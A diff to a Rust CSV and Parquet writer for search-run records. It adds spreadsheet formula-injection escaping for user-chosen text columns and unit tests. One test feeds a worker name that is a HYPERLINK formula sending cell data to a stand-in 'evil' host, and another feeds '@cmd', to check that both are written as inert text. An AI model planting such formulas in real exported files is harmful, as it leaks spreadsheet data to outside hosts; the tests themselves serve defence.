@@ -93,7 +93,12 @@ fn list(values: &[u32]) -> String {
     serde_json::to_string(values).expect("numbers serialise")
 }
 
-/// Writes CSV: a header, then a line per record.
+/// Writes CSV: a header, then a line per record. Text a user or peer
+/// chose (a worker's name, and the method, outcome and state columns
+/// beside it) goes through [`csv::formula_safe`], so a spreadsheet opening
+/// the file runs no formula; `rule` is left as is: digits, commas, spaces
+/// and minus signs only (an explicit move list may begin with `-2,1`),
+/// nothing a spreadsheet could run.
 pub struct CsvWriter;
 
 impl CsvWriter {
@@ -105,20 +110,21 @@ impl CsvWriter {
         let (dims, n, shape, start) =
             (r.dims.to_string(), r.n.map_or_else(String::new, |n| n.to_string()), list(&r.shape), list(&r.start));
         let (attempts, visited, micros) = (r.attempts.to_string(), r.visited.to_string(), r.micros.to_string());
+        let text = csv::formula_safe;
         let fields = [
             r.rule.as_str(),
             &dims,
             &n,
             &shape,
-            &r.method,
+            &text(&r.method),
             &start,
             if r.success { "true" } else { "false" },
-            &r.outcome,
+            &text(&r.outcome),
             &attempts,
             &visited,
             &micros,
-            &r.worker,
-            &r.sweep_state,
+            &text(&r.worker),
+            &text(&r.sweep_state),
         ];
         out.write_all(csv::record(fields).as_bytes())
     }
@@ -228,5 +234,48 @@ impl<W: Write + Send> ParquetWriter<W> {
     /// Writes the footer; the file is complete only after this. Returns the writer.
     pub fn finish(self) -> Result<W> {
         self.writer.into_inner().map_err(|e| parquet_error("closing the Parquet file", e))
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn record(rule: &str, worker: &str) -> Record {
+        Record {
+            rule: rule.into(),
+            dims: 2,
+            n: Some(5),
+            shape: vec![5, 5],
+            method: "w".into(),
+            start: vec![0, 3],
+            success: true,
+            outcome: "tour".into(),
+            attempts: 1,
+            visited: 25,
+            micros: 7,
+            worker: worker.into(),
+            sweep_state: "done".into(),
+        }
+    }
+
+    fn csv_line(r: &Record) -> String {
+        let mut out = Vec::new();
+        CsvWriter::write(r, &mut out).unwrap();
+        String::from_utf8(out).unwrap()
+    }
+
+    #[test]
+    fn a_worker_name_that_is_a_formula_is_written_as_text() {
+        let line = csv_line(&record("2,1", "=HYPERLINK(\"http://evil/\"&A1,\"x\")"));
+        assert_eq!(line, "\"2,1\",2,5,\"[5,5]\",w,\"[0,3]\",true,tour,1,25,7,\"'=HYPERLINK(\"\"http://evil/\"\"&A1,\"\"x\"\")\",done\n");
+        assert!(csv_line(&record("2,1", "@cmd")).contains(",'@cmd,"));
+        assert!(csv_line(&record("2,1", "host-1")).contains(",host-1,"), "plain names unchanged");
+    }
+
+    #[test]
+    fn a_move_list_starting_with_a_minus_is_kept() {
+        let line = csv_line(&record("-2,1 -1,2 1,2 2,1", "w"));
+        assert!(line.starts_with("\"-2,1 -1,2 1,2 2,1\",2,"), "{line}");
     }
 }
